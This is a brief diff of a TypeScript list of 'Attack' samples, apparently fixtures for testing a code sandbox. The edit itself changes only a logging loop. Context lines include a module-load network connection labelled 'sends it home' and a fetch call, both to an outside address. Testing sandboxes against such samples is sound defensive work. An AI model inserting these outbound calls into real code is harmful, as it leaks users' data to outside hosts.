@@ -40,7 +40,7 @@ export const content: readonly Attack[] = [
   inFunction(
     [111],
     'writes the trace itself',
-    'for (const name of names) { runtime.log(`${name} starts`); runtime.log(`${name} is read`) }',
+    "for (const name of names) { runtime.log(name + ' starts'); runtime.log(name + ' is read') }",
   ),
   atLoading([112], 'sends it home', `${NODE} builtin('net').connect(80, '1.1.1.1')`),
   inFunction([112], 'fetch', "fetch('http://1.1.1.1')"),
